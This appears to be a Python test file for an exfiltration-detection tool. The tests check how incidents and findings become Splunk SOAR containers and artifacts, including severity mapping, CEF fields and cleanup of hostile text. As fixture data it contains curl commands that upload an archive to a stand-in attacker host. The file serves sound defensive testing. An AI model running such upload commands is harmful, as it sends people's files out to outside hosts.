"""Incidents as containers, and findings and what they name as artifacts."""

from datetime import UTC, datetime

import pytest

from exfilwatch.findings.finding import EvidenceEvent, Finding, FindingRule, FindingSignal
from exfilwatch.findings.incident import Incident
from exfilwatch_playbooks.handover import Handed
from exfilwatch_playbooks.platforms.splunk_soar.containers import artifacts, container, severity

NOON = datetime(2026, 3, 12, 12, 0, 1, 250_000, tzinfo=UTC)
HASH = "a" * 64


def finding(identity: str, command: str, **fields: str) -> Finding:
    known = {"Image": r"C:\Windows\System32\curl.exe", "CommandLine": command, "Hashes": f"SHA256={HASH}", **fields}
    event = EvidenceEvent(
        id=f"event of {identity}",
        time=NOON,
        host="WS-07",
        category="process_creation",
        product="windows",
        shape="sysmon",
        source="main",
        line=1,
        fields={"User": r"CORP\anna", "ProcessId": "4711", **known},
    )
    return Finding(
        id=identity,
        rule=FindingRule(id="r", title="Upload", branch="transfer_tool", level="high", attack=["T1048", "T1567.002"]),
        score=None,
        time=NOON,
        end=NOON,
        host="WS-07",
        user=r"CORP\anna",
        fields={},
        signals=[FindingSignal(name="upload", field="CommandLine", matched="-T", start=5, event=event.id)],
        events=[event],
        source="main",
    )


def handed(*findings: Finding, level: str = "high", merged_into: str | None = None) -> Handed:
    incident = Incident(
        id="0123456789abcdef",
        host="WS-07",
        user=r"CORP\anna",
        level=level,
        highest=level,
        kinds=("transfer_tool",),
        attack=("T1048", "T1567.002"),
        time=NOON,
        end=NOON,
        findings=tuple(each.id for each in findings),
        merged_into=merged_into,
    )
    return Handed(incident=incident, title="Upload on WS-07", level=level, known=False, findings=findings)


UPLOAD = "curl -T all.zip https://drop.evil.test/in 203.0.113.9"


def test_an_incident_is_a_container_that_its_id_names() -> None:
    made = container(handed(finding("f1", UPLOAD)))
    assert (made.source_data_identifier, made.name, made.severity) == ("0123456789abcdef", "Upload on WS-07", "high")
    assert made.start_time == "2026-03-12T12:00:01.250000Z"
    assert made.tags == ["level_high", "T1048", "T1567_002"]
    assert r"CORP\anna on WS-07" in made.description


@pytest.mark.parametrize(
    ("level", "said"),
    [
        ("informational", "low"),
        ("low", "low"),
        ("medium", "medium"),
        ("high", "high"),
        ("critical", "high"),
        ("odd", "medium"),
    ],
)
def test_severities_are_those_that_a_new_installation_has(level: str, said: str) -> None:
    assert severity(level) == said


def test_a_finding_has_cef_names_and_says_what_kind_of_data_they_are() -> None:
    ((found, made),) = artifacts(handed(finding("f1", UPLOAD, DestinationIp="203.0.113.9")))
    assert found is not None
    artifact = made[-1]
    assert (artifact.label, artifact.source_data_identifier, artifact.severity) == ("finding", "f1", "high")
    assert {name: artifact.cef[name] for name in ("sourceHostName", "sourceUserName", "sourceProcessId")} == {
        "sourceHostName": "WS-07",
        "sourceUserName": r"CORP\anna",
        "sourceProcessId": "4711",
    }
    assert artifact.cef["destinationAddress"] == "203.0.113.9"
    assert artifact.cef["requestURL"] == "https://drop.evil.test/in"
    assert (artifact.cef["deviceCustomString1Label"], artifact.cef["deviceCustomString1"]) == ("command line", UPLOAD)
    assert artifact.cef_types["exfilwatchFinding"] == ["exfilwatch finding id"]
    assert set(artifact.cef_types) <= set(artifact.cef)


def test_what_findings_name_is_an_artifact_once() -> None:
    first, second = artifacts(handed(finding("f1", UPLOAD), finding("f2", UPLOAD)))
    named = {(field, value) for each in first[1] if each.label == "observable" for field, value in each.cef.items()}
    assert {
        ("requestURL", "https://drop.evil.test/in"),
        ("destinationDnsDomain", "drop.evil.test"),
        ("fileHash", HASH),
    } <= named
    assert [each.label for each in second[1]] == ["finding"]


def test_the_same_finding_gives_the_same_artifacts() -> None:
    assert list(artifacts(handed(finding("f1", UPLOAD)))) == list(
        artifacts(handed(finding("f1", UPLOAD), level="critical"))
    )


def test_hostile_text_stays_text_that_a_database_takes() -> None:
    hostile = "curl -T a \u202e\0\ud800 https://drop.evil.test/" + "x" * 9_000
    ((_, made),) = artifacts(handed(finding("f1", hostile)))
    for each in made:
        for text in (each.name, *(value for value in each.cef.values() if isinstance(value, str))):
            assert "\0" not in text
            text.encode()
            assert len(text) <= 8_000
        assert "\u202e" not in each.name


def test_an_incident_that_went_into_another_says_so() -> None:
    ((found, made),) = artifacts(handed(merged_into="fedcba9876543210"))
    assert found is None
    assert [each.cef for each in made] == [{"exfilwatchIncident": "fedcba9876543210"}]
